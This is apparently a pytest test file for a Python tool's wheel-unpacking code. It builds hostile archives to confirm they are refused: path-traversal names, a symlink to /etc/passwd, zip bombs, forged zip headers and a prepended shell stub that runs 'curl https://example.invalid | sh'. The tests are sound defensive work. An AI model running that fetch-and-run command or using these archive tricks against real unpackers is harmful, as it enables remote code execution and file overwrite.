"""spoke.prepare.unpack: safe, content-addressed unpacking of wheels into the cache."""

from __future__ import annotations

import base64
import hashlib
import io
import os
import stat
import struct
import zipfile
from pathlib import Path

import pytest

from spoke.cache import Cache
from spoke.errors import HashMismatchError, MetadataError, UnsafeArchiveError
from spoke.prepare.unpack import (
    UnpackLimits,
    cached_unpacked,
    check_member_name,
    unpack_wheel,
)
from tests.unit.wheelmaker import info, make_wheel


@pytest.fixture
def cache(tmp_path: Path) -> Cache:
    return Cache.open(tmp_path / "cache")


@pytest.fixture
def src(tmp_path: Path) -> Path:
    folder = tmp_path / "src"
    folder.mkdir()
    return folder


def sha256_of(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def cache_leftovers(cache: Cache) -> list[str]:
    """Everything in the archives bucket (a refused wheel must leave nothing)."""
    bucket = cache.bucket("archives")
    return sorted(str(p.relative_to(bucket)) for p in bucket.rglob("*"))


def test_good_wheel_unpacks_with_record_and_modes(cache: Cache, src: Path) -> None:
    wheel = make_wheel(
        src,
        files={
            "demo/__init__.py": "VALUE = 1\n",
            "demo/data/blob.bin": bytes(range(256)) * 10,
            "{data_dir}/scripts/tool": "#!python\nprint('hi')\n",
        },
        executable=["{data_dir}/scripts/tool"],
    )
    unpacked = unpack_wheel(wheel, cache=cache)
    assert unpacked.name == "demo"
    assert str(unpacked.version) == "1.0"
    assert unpacked.filename == wheel.name
    assert unpacked.dist_info == "demo-1.0.dist-info"
    assert unpacked.data_dir == "demo-1.0.data"
    assert unpacked.root_is_purelib is True
    assert unpacked.root == cache.bucket("archives") / sha256_of(wheel) / "wheel"
    paths = {p for p, _, _ in unpacked.record}
    assert "demo/__init__.py" in paths and "demo-1.0.dist-info/RECORD" in paths
    for rel, hash_, size in unpacked.record:
        data = (unpacked.root / rel).read_bytes()
        assert size == len(data)
        assert hash_ == "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    tool = unpacked.root / "demo-1.0.data/scripts/tool"
    assert os.stat(tool).st_mode & stat.S_IXUSR
    assert not os.stat(unpacked.root / "demo/__init__.py").st_mode & stat.S_IXUSR


def test_second_unpack_reuses_the_entry(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src)
    first = unpack_wheel(wheel, cache=cache)
    init = first.root / "demo/__init__.py"
    inode = os.stat(init).st_ino
    marker = first.root / "demo/sentinel"
    marker.write_text("left by the test")  # an unzip into a fresh folder would not keep this
    second = unpack_wheel(wheel, cache=cache)
    assert second == first
    assert second.record == first.record
    assert os.stat(init).st_ino == inode
    assert marker.exists()
    # and by hash alone, without the file
    wheel.unlink()
    assert cached_unpacked(cache, sha256_of_bytes := first.root.parent.name) == first
    assert unpack_wheel(src / "absent.whl", cache=cache, sha256=sha256_of_bytes) == first
    assert not [p for p in cache_leftovers(cache) if p.startswith(".tmp-")]


def test_cached_unpacked_misses(cache: Cache) -> None:
    assert cached_unpacked(cache, "0" * 64) is None


def test_given_sha256_is_verified(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src)
    with pytest.raises(HashMismatchError) as err:
        unpack_wheel(wheel, cache=cache, sha256="ab" * 32)
    assert wheel.name in err.value.message
    assert cache_leftovers(cache) == []
    good = unpack_wheel(wheel, cache=cache, sha256=sha256_of(wheel).upper())
    assert good.root.parent.name == sha256_of(wheel)


def test_race_loser_uses_the_winners_entry(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src)
    winner = unpack_wheel(wheel, cache=cache)
    # Simulate the race: the entry appeared after our cache check but before our rename.
    from spoke.prepare import unpack as mod

    tmp = cache.bucket("archives") / ".tmp-loser"
    tmp.mkdir()
    (tmp / "wheel").mkdir()
    mod._publish(tmp, winner.root.parent)
    assert cached_unpacked(cache, winner.root.parent.name) == winner
    assert (winner.root / "demo/__init__.py").exists()


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("../evil.py", "`..` path component"),
        ("demo/../../evil.py", "`..` path component"),
        ("/etc/evil", "absolute path"),
        ("C:/evil.py", "drive letter"),
        ("c:evil.py", "drive letter"),
        ("demo\\..\\evil.py", "backslash"),
        ("demo//x.py", "`//` path component"),
        ("./x.py", "`.` path component"),
    ],
)
def test_unsafe_names_refused(cache: Cache, src: Path, tmp_path: Path, name: str, reason: str) -> None:
    wheel = make_wheel(src, extra=[(info(name), b"import os\n")])
    with pytest.raises(UnsafeArchiveError) as err:
        unpack_wheel(wheel, cache=cache)
    assert reason in err.value.message
    assert wheel.name in err.value.message and name in err.value.message
    assert cache_leftovers(cache) == []
    assert not (tmp_path / "evil.py").exists() and not (cache.root / "evil.py").exists()


def test_check_member_name_accepts_plain_paths() -> None:
    assert check_member_name("demo/sub/x.py") is None
    assert check_member_name("demo/") is None
    assert check_member_name("a\x00b") == "NUL byte in name"


def test_nul_in_name_refused(cache: Cache, src: Path) -> None:
    zi = info("demo/x.py")
    zi.filename = "demo/x.py\x00.txt"  # zipfile truncates at NUL when reading; we must not
    wheel = make_wheel(src, extra=[(zi, b"x")])
    with pytest.raises(UnsafeArchiveError, match="NUL"):
        unpack_wheel(wheel, cache=cache)
    assert cache_leftovers(cache) == []


def test_symlink_member_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, extra=[(info("demo/link", mode=0o120777), b"/etc/passwd")])
    with pytest.raises(UnsafeArchiveError, match="symbolic link"):
        unpack_wheel(wheel, cache=cache)
    assert cache_leftovers(cache) == []


def test_duplicate_member_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, extra=[(info("demo/__init__.py"), b"EVIL = 1\n")])
    with pytest.raises(UnsafeArchiveError, match="duplicate name"):
        unpack_wheel(wheel, cache=cache)
    assert cache_leftovers(cache) == []


def test_file_and_folder_with_one_name_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, files={"demo": "x", "demo/__init__.py": ""})
    with pytest.raises(UnsafeArchiveError, match="parent folder is also a file"):
        unpack_wheel(wheel, cache=cache)


def test_zip_bomb_refused_by_ratio(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, files={"demo/__init__.py": "", "demo/zeros.bin": bytes(24 << 20)})
    assert wheel.stat().st_size < 1 << 20
    with pytest.raises(UnsafeArchiveError, match="compression ratio"):
        unpack_wheel(wheel, cache=cache)
    assert cache_leftovers(cache) == []


def test_member_and_total_size_bounds(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, files={"demo/a.bin": os.urandom(3000), "demo/b.bin": os.urandom(3000)})
    with pytest.raises(UnsafeArchiveError, match="larger than 2048 bytes"):
        unpack_wheel(wheel, cache=cache, limits=UnpackLimits(max_member_size=2048))
    with pytest.raises(UnsafeArchiveError, match="total size over 5000"):
        unpack_wheel(wheel, cache=cache, limits=UnpackLimits(max_total_size=5000))
    assert cache_leftovers(cache) == []


def _patch_sizes(path: Path, member: str, fake_size: int) -> None:
    """Make both headers of ``member`` claim ``fake_size`` uncompressed bytes."""
    data = bytearray(path.read_bytes())
    encoded = member.encode()
    for sig, size_at, name_len_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        start = 0
        while (pos := data.find(sig, start)) >= 0:
            (name_len,) = struct.unpack_from("<H", data, pos + name_len_at)
            if bytes(data[pos + name_at : pos + name_at + name_len]) == encoded:
                struct.pack_into("<I", data, pos + size_at, fake_size)
            start = pos + 4
    path.write_bytes(bytes(data))


def test_member_lying_about_its_size_is_refused_while_streaming(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, files={"demo/__init__.py": "", "demo/big.txt": b"A" * 100_000})
    _patch_sizes(wheel, "demo/big.txt", 10)
    with pytest.raises(UnsafeArchiveError, match="demo/big.txt"):
        unpack_wheel(wheel, cache=cache)
    assert cache_leftovers(cache) == []


def test_record_hash_mismatch_refused(cache: Cache, src: Path) -> None:
    def corrupt(rows: list[list[str]]) -> None:
        rows[0][1] = "sha256=" + "A" * 43

    wheel = make_wheel(src, mutate_record=corrupt)
    with pytest.raises(UnsafeArchiveError, match="does not match the hash"):
        unpack_wheel(wheel, cache=cache)
    assert cache_leftovers(cache) == []


def test_record_size_mismatch_refused(cache: Cache, src: Path) -> None:
    def corrupt(rows: list[list[str]]) -> None:
        rows[0][2] = "999"

    with pytest.raises(UnsafeArchiveError, match="differs from 999"):
        unpack_wheel(make_wheel(src, mutate_record=corrupt), cache=cache)


def test_record_with_other_algorithm_is_verified(cache: Cache, src: Path) -> None:
    content = b"VALUE = 1\n"

    def sha512(rows: list[list[str]]) -> None:
        rows[0][1] = "sha512=" + base64.urlsafe_b64encode(hashlib.sha512(content).digest()).rstrip(b"=").decode()

    unpacked = unpack_wheel(make_wheel(src, files={"demo/__init__.py": content}, mutate_record=sha512), cache=cache)
    assert unpacked.record[0][1].startswith("sha256=")  # our record is always sha256


def test_md5_in_record_refused(cache: Cache, src: Path) -> None:
    def md5(rows: list[list[str]]) -> None:
        rows[0][1] = "md5=abc"

    with pytest.raises(UnsafeArchiveError, match="unsupported hash"):
        unpack_wheel(make_wheel(src, mutate_record=md5), cache=cache)


def test_member_missing_from_record_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, extra=[(info("demo/sneaky.py"), b"import os\n")])
    with pytest.raises(UnsafeArchiveError, match="not listed in the wheel's RECORD"):
        unpack_wheel(wheel, cache=cache)


@pytest.mark.parametrize(("row", "reason"), [
    (["../../x", "", ""], "a line names `../../x`: `..` path component"),
    (["/etc/passwd", "", ""], "a line names `/etc/passwd`: absolute path"),
    (["demo/../../x.py", "", ""], "`..` path component"),
    (["demo/absent.py", "sha256=" + "A" * 43, "3"], "lists `demo/absent.py`, which the archive does not hold"),
])
def test_record_naming_what_the_archive_cannot_hold_is_refused(cache: Cache, src: Path, row: list[str],
                                                               reason: str) -> None:
    wheel = make_wheel(src, mutate_record=lambda rows: rows.append(row))
    with pytest.raises(UnsafeArchiveError, match="member `RECORD`") as info_:
        unpack_wheel(wheel, cache=cache)
    assert reason in info_.value.message
    assert cache_leftovers(cache) == []


def test_unhashed_signature_files_are_allowed(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, extra=[(info("demo-1.0.dist-info/RECORD.jws"), b"{}")])
    unpacked = unpack_wheel(wheel, cache=cache)
    assert (unpacked.root / "demo-1.0.dist-info/RECORD.jws").exists()


def test_dist_info_name_mismatch_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, dist_info="other-1.0.dist-info")
    with pytest.raises(MetadataError, match="does not match"):
        unpack_wheel(wheel, cache=cache)
    assert cache_leftovers(cache) == []


def test_dist_info_version_mismatch_refused(cache: Cache, src: Path) -> None:
    with pytest.raises(MetadataError, match="does not match"):
        unpack_wheel(make_wheel(src, dist_info="demo-2.0.dist-info"), cache=cache)


def test_equivalent_spellings_accepted(cache: Cache, src: Path) -> None:
    wheel = make_wheel(
        src, name="My_Pkg", version="1.0", dist_info="my.pkg-1.0.0.dist-info", filename="my_pkg-1.0-py3-none-any.whl"
    )
    unpacked = unpack_wheel(wheel, cache=cache)
    assert unpacked.name == "my-pkg" and unpacked.dist_info == "my.pkg-1.0.0.dist-info"
    assert unpacked.data_dir == "my.pkg-1.0.0.data"


def test_two_dist_infos_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, files={"demo/__init__.py": "", "other-1.0.dist-info/METADATA": "x"})
    with pytest.raises(MetadataError, match="2 `.dist-info` folders"):
        unpack_wheel(wheel, cache=cache)


def test_wheel_version_2_refused(cache: Cache, src: Path) -> None:
    with pytest.raises(MetadataError, match="Wheel-Version `2.0`"):
        unpack_wheel(make_wheel(src, wheel_version="2.0"), cache=cache)


def test_platlib_wheel(cache: Cache, src: Path) -> None:
    assert unpack_wheel(make_wheel(src, purelib=False), cache=cache).root_is_purelib is False


def test_bad_filename_and_not_a_zip(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, filename="not-a-wheel.zip")
    with pytest.raises(MetadataError, match="Invalid wheel filename"):
        unpack_wheel(wheel, cache=cache)
    junk = src / "demo-1.0-py3-none-any.whl"
    junk.write_bytes(b"this is not a zip")
    with pytest.raises(UnsafeArchiveError, match="not a valid zip"):
        unpack_wheel(junk, cache=cache)
    assert cache_leftovers(cache) == []


def test_encrypted_member_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, files={"demo/__init__.py": ""})
    # zipfile cannot write encrypted members: patch the flag bits in both headers instead.
    data = bytearray(wheel.read_bytes())
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = data.find(sig)
        data[pos + off] |= 0x1
    wheel.write_bytes(bytes(data))
    with pytest.raises(UnsafeArchiveError, match="encrypted"):
        unpack_wheel(wheel, cache=cache)


def test_nothing_written_outside_the_bucket(cache: Cache, src: Path, tmp_path: Path) -> None:
    wheels = []
    for i, name in enumerate(("../../escape.py", "/tmp/../escape.py", "demo/../../../escape.py")):
        folder = src / str(i)
        folder.mkdir()
        wheels.append(make_wheel(folder, extra=[(info(name), b"x")]))
    assert all(zipfile.is_zipfile(w) for w in wheels)
    cache.bucket("archives")
    before = sorted(tmp_path.rglob("*"))
    for wheel in wheels:
        with pytest.raises(UnsafeArchiveError):
            unpack_wheel(wheel, cache=cache)
    assert sorted(tmp_path.rglob("*")) == before
    assert not Path("/tmp/escape.py").exists()


def test_unreadable_record_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, record=b"demo/__init__.py,\xff\xfe,1\n")
    with pytest.raises(UnsafeArchiveError, match="RECORD.*unreadable"):
        unpack_wheel(wheel, cache=cache)
    assert cache_leftovers(cache) == []


# --- the layout: local headers, prepended and unlisted bytes (zip_layout_problem) ----------


def central_entries(data: bytes) -> dict[str, int]:
    """Name → offset of its central directory entry."""
    zf = zipfile.ZipFile(io.BytesIO(data))
    pos, found = zf.start_dir, {}
    for _ in zf.infolist():
        name_len, extra_len, comment_len = struct.unpack_from("<3H", data, pos + 28)
        found[data[pos + 46 : pos + 46 + name_len].decode()] = pos
        pos += 46 + name_len + extra_len + comment_len
    return found


def patch_local_header(path: Path, member: str, *, name: bytes | None = None, method: int | None = None,
                       compressed_size: int | None = None, flags: int | None = None) -> None:
    """Change fields of ``member``'s local header only (its central entry stays as it was)."""
    data = bytearray(path.read_bytes())
    at = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(member).header_offset
    if name is not None:
        assert len(name) == len(member.encode()), "keep the length: offsets must not move"
        data[at + 30 : at + 30 + len(name)] = name
    if flags is not None:
        struct.pack_into("<H", data, at + 6, flags)
    if method is not None:
        struct.pack_into("<H", data, at + 8, method)
    if compressed_size is not None:
        struct.pack_into("<I", data, at + 18, compressed_size)
    path.write_bytes(bytes(data))


def drop_central_entry(path: Path, member: str) -> None:
    """Remove ``member`` from the central directory, leaving its local header and data."""
    data = bytearray(path.read_bytes())
    pos = central_entries(bytes(data))[member]
    name_len, extra_len, comment_len = struct.unpack_from("<3H", data, pos + 28)
    length = 46 + name_len + extra_len + comment_len
    del data[pos : pos + length]
    eocd = len(data) - 22
    _sig, _disk, _cd_disk, n_disk, n_total, cd_size, cd_offset, comment = struct.unpack_from("<4s4H2LH", data, eocd)
    struct.pack_into(
        "<4s4H2LH", data, eocd, _sig, _disk, _cd_disk, n_disk - 1, n_total - 1, cd_size - length, cd_offset, comment
    )
    path.write_bytes(bytes(data))


def refused(wheel: Path, cache: Cache, *fragments: str) -> str:
    """Unpack ``wheel``, expect a refusal naming the file and ``fragments``; nothing cached."""
    with pytest.raises(UnsafeArchiveError) as err:
        unpack_wheel(wheel, cache=cache)
    message = err.value.message
    assert message.startswith("Refusing to unpack ") and wheel.name in message, message
    for fragment in fragments:
        assert fragment in message, message
    assert cache_leftovers(cache) == []
    return message


def test_local_header_naming_another_file_is_refused(cache: Cache, src: Path, tmp_path: Path) -> None:
    wheel = make_wheel(src, files={"demo/__init__.py": "", "demo/ok.py": "print('ok')\n"})
    patch_local_header(wheel, "demo/ok.py", name=b"../evil.py")
    # zipfile itself would only notice when opening the member (some versions not at all).
    assert zipfile.ZipFile(wheel).namelist()[1] == "demo/ok.py"
    refused(wheel, cache, "member `demo/ok.py`", "local header names another file, `../evil.py`")
    assert not list(tmp_path.rglob("evil.py"))


def test_local_header_name_that_is_not_utf8_is_refused(cache: Cache, src: Path) -> None:
    # The central entry says UTF-8; zipfile would raise UnicodeDecodeError on open.
    zi = info("demo/caf\u00e9.py")
    wheel = make_wheel(src, files={"demo/__init__.py": ""}, extra=[(zi, b"x = 1\n")])
    assert zipfile.ZipFile(wheel).getinfo("demo/caf\u00e9.py").flag_bits & 0x800
    patch_local_header(wheel, "demo/caf\u00e9.py", name=b"demo/caf\xff\xfe.py")
    refused(wheel, cache, "local header names another file")


def test_local_header_with_another_compression_method_is_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, files={"demo/__init__.py": "VALUE = 1\n" * 50})
    patch_local_header(wheel, "demo/__init__.py", method=zipfile.ZIP_STORED)
    refused(wheel, cache, "`demo/__init__.py`", "compression method 0, the central directory 8")


def test_local_header_with_other_sizes_is_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, files={"demo/__init__.py": "VALUE = 1\n" * 50})
    patch_local_header(wheel, "demo/__init__.py", compressed_size=1)
    refused(wheel, cache, "`demo/__init__.py`", "its local header says 500 bytes (1 compressed")


def test_local_header_disagreeing_on_encryption_is_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src)
    patch_local_header(wheel, "demo/__init__.py", flags=0x1)
    refused(wheel, cache, "disagree on encryption")


def test_prepended_payload_is_refused(cache: Cache, src: Path) -> None:
    """`cat stub.sh wheel > new.whl`: zipfile shifts every offset and reads it happily."""
    wheel = make_wheel(src)
    stub = b"#!/bin/sh\ncurl https://example.invalid | sh\nexit 0\n"
    wheel.write_bytes(stub + wheel.read_bytes())
    assert zipfile.ZipFile(wheel).testzip() is None  # a valid zip to zipfile
    refused(wheel, cache, f"{len(stub)} bytes before the first entry")


def test_prepended_payload_with_adjusted_offsets_is_refused(cache: Cache, src: Path) -> None:
    """`zip -A` style: the offsets count the stub, so the members do not start at byte 0."""
    good = make_wheel(src)
    stub = b"MZ" + bytes(98)
    wheel = src / "demo-1.0-py3-none-any.whl"
    with zipfile.ZipFile(good) as zf:
        members = [(i, zf.read(i)) for i in zf.infolist()]
    wheel.write_bytes(stub)
    with zipfile.ZipFile(wheel, "a") as zf:
        for zi, data in members:
            zf.writestr(zi, data)
    assert zipfile.ZipFile(wheel).infolist()[0].header_offset == len(stub)
    refused(wheel, cache, "100 bytes before the first entry")


def test_entry_missing_from_the_central_directory_is_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, files={"demo/__init__.py": "", "demo/hidden.py": "import os\n", "demo/z.py": ""})
    drop_central_entry(wheel, "demo/hidden.py")
    assert "demo/hidden.py" not in zipfile.ZipFile(wheel).namelist()
    # The hidden entry sits before demo/z.py; a streaming reader would unpack it.
    refused(wheel, cache, "member `demo/z.py`", "bytes before it that the central directory does not list")


def test_unlisted_bytes_after_the_last_entry_are_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, files={"demo/__init__.py": ""},
                       extra=[(info("demo-1.0.dist-info/RECORD.jws"), b"{}")])
    drop_central_entry(wheel, "demo-1.0.dist-info/RECORD.jws")  # the last entry
    refused(wheel, cache, "bytes after the last entry that the central directory does not list")


def test_overlapping_entries_are_refused(cache: Cache, src: Path) -> None:
    """Two central entries sharing bytes: the trick behind kilobyte-sized zip bombs."""
    wheel = make_wheel(src, files={"demo/__init__.py": "", "demo/a.py": "A = 1\n"})
    data = bytearray(wheel.read_bytes())
    entries = central_entries(bytes(data))
    first = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("demo/__init__.py").header_offset
    struct.pack_into("<I", data, entries["demo/a.py"] + 42, first)
    wheel.write_bytes(bytes(data))
    refused(wheel, cache, "overlaps the entry before it")


def test_bytes_after_the_end_record_are_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src)
    wheel.write_bytes(wheel.read_bytes() + b"PK\x03\x04 trailing payload")
    refused(wheel, cache, "bytes after the end of the archive")


def test_end_record_count_must_match(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src)
    data = bytearray(wheel.read_bytes())
    struct.pack_into("<H", data, len(data) - 22 + 10, 99)
    wheel.write_bytes(bytes(data))
    refused(wheel, cache, "counts 99 entries")


class _Unseekable(io.RawIOBase):
    """A write-only stream: zipfile then writes data descriptors (flag bit 3)."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, b: bytes) -> int:  # type: ignore[override]
        self.data += b
        return len(b)


def test_data_descriptors_and_zip64_local_headers_are_accepted(cache: Cache, src: Path) -> None:
    """Layouts real tools write: streamed members (bit 3 + descriptor), zip64 local sizes."""
    good = make_wheel(src, files={"demo/__init__.py": "VALUE = 1\n", "demo/b.py": "B = 2\n" * 100})
    with zipfile.ZipFile(good) as zf:
        members = [(i, zf.read(i)) for i in zf.infolist()]
    out = _Unseekable()
    with zipfile.ZipFile(out, "w") as zf:
        for zi, data in members:
            with zf.open(zi, "w") as dst:
                dst.write(data)
    streamed = src / "streamed" / good.name
    streamed.parent.mkdir()
    streamed.write_bytes(bytes(out.data))
    assert all(i.flag_bits & 0x8 for i in zipfile.ZipFile(streamed).infolist())
    assert unpack_wheel(streamed, cache=cache).name == "demo"
    zip64 = src / "zip64" / good.name
    zip64.parent.mkdir()
    with zipfile.ZipFile(zip64, "w") as zf:
        for zi, data in members:
            with zf.open(zi, "w", force_zip64=True) as dst:
                dst.write(data)
    head = zip64.read_bytes()[:30]
    assert struct.unpack_from("<2I", head, 18) == (0xFFFFFFFF, 0xFFFFFFFF)  # sizes in the extra field
    assert unpack_wheel(zip64, cache=cache).name == "demo"


def test_overlong_names_are_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, extra=[(info("demo/" + "x" * 256 + ".py"), b"")])
    refused(wheel, cache, "a path component longer than 255 bytes")
    deep = "demo/" + "/".join(["d" * 200] * 6) + "/x.py"
    wheel = make_wheel(src, extra=[(info(deep), b"")])
    refused(wheel, cache, "name longer than 1024 bytes")
    assert check_member_name("demo/" + "é" * 126 + ".py") is None  # 255 bytes in UTF-8
    assert check_member_name("demo/" + "é" * 127 + ".py") is not None


def with_zip64_end_records(path: Path, *, record_offset_error: int = 0) -> None:
    """Rewrite the end of ``path`` as zip64 writers do: zip64 record, locator, placeholder EOCD."""
    data = path.read_bytes()
    eocd = len(data) - 22
    _sig, _disk, _cd_disk, n_disk, n_total, cd_size, cd_offset, _comment = struct.unpack_from("<4s4H2LH", data, eocd)
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, n_disk, n_total, cd_size, cd_offset)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, eocd + record_offset_error, 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    path.write_bytes(data[:eocd] + record + locator + end)


def test_archive_comment_and_zip64_end_records_are_accepted(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src)
    with zipfile.ZipFile(wheel, "a") as zf:
        zf.comment = b"built by a tool that signs its archives"
    assert unpack_wheel(wheel, cache=cache).name == "demo"
    (src / "zip64").mkdir()
    zip64 = make_wheel(src / "zip64", files={"demo/__init__.py": "Z = 64\n"})
    with_zip64_end_records(zip64)
    assert zipfile.ZipFile(zip64).namelist()[0] == "demo/__init__.py"
    assert unpack_wheel(zip64, cache=cache).name == "demo"


def test_inconsistent_zip64_end_records_are_refused(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src)
    with_zip64_end_records(wheel, record_offset_error=8)
    refused(wheel, cache, "inconsistent zip64 end of central directory records")


def test_hex_digests_in_record_are_verified_too(cache: Cache, src: Path) -> None:
    """gmsh's wheels on PyPI write ``sha256=<hex>``: the same digest, spelled differently."""
    content = b"VALUE = 1\n"

    def hexed(rows: list[list[str]]) -> None:
        rows[0][1] = "sha256=" + hashlib.sha256(content).hexdigest()

    unpacked = unpack_wheel(make_wheel(src, files={"demo/__init__.py": content}, mutate_record=hexed), cache=cache)
    assert (unpacked.root / "demo/__init__.py").read_bytes() == content

    def wrong_hex(rows: list[list[str]]) -> None:
        rows[0][1] = "sha256=" + hashlib.sha256(b"other").hexdigest()

    (src / "bad").mkdir()
    with pytest.raises(UnsafeArchiveError, match="does not match the hash"):
        unpack_wheel(make_wheel(src / "bad", files={"demo/__init__.py": content}, mutate_record=wrong_hex), cache=cache)


def test_one_highly_compressible_member_is_not_a_bomb(cache: Cache, src: Path) -> None:
    """onnx's wheels ship 2.5 MB of zeros (1000 to 1) as test data: the archive's ratio decides."""
    files = {"demo/__init__.py": "", "demo/input_0.pb": bytes(2_560_015), "demo/lib.so": os.urandom(200_000)}
    unpacked = unpack_wheel(make_wheel(src, files=files), cache=cache)
    assert (unpacked.root / "demo/input_0.pb").stat().st_size == 2_560_015
    (src / "tiny").mkdir()
    with pytest.raises(UnsafeArchiveError, match="compression ratio too high"):
        unpack_wheel(make_wheel(src / "tiny", files={"demo/input_0.pb": bytes(2_560_015)}), cache=cache,
                     limits=UnpackLimits(ratio_floor=1 << 20))


def test_control_characters_in_names_are_refused_and_escaped(cache: Cache, src: Path) -> None:
    wheel = make_wheel(src, extra=[(info("demo/\x1b]0;owned\x07.py"), b"")])
    message = refused(wheel, cache, "control character in name")
    assert "\x1b" not in message and "demo/\\x1b]0;owned\\x07.py" in message


@pytest.mark.parametrize("inflater", ["zlib-ng", "zlib"])
def test_both_inflaters_unpack_and_refuse_damaged_data(cache: Cache, src: Path, tmp_path: Path, monkeypatch,
                                                      inflater: str) -> None:  # noqa: ANN001
    import zlib

    from spoke.prepare import unpack as mod

    if inflater == "zlib":
        monkeypatch.setattr(mod, "_inflating", zlib)  # the fallback where zlib-ng has no wheel
    else:
        pytest.importorskip("zlib_ng")
    body = ("line of text\n" * 5000).encode()
    good = make_wheel(src, files={"demo/data.txt": body})
    assert (unpack_wheel(good, cache=cache).root / "demo" / "data.txt").read_bytes() == body
    # The same wheel with its member's first deflate block marked with the invalid type 3.
    raw = bytearray(good.read_bytes())
    with zipfile.ZipFile(good) as zf:
        member = zf.getinfo("demo/data.txt")
    name_len, extra_len = struct.unpack("<HH", raw[member.header_offset + 26: member.header_offset + 30])
    raw[member.header_offset + 30 + name_len + extra_len] = 0x07
    damaged = tmp_path / "damaged" / good.name
    damaged.parent.mkdir()
    damaged.write_bytes(bytes(raw))
    other = Cache.open(tmp_path / "other-cache")
    with pytest.raises(UnsafeArchiveError, match="corrupt data"):
        unpack_wheel(damaged, cache=other)
    assert not any((other.bucket("archives")).iterdir())
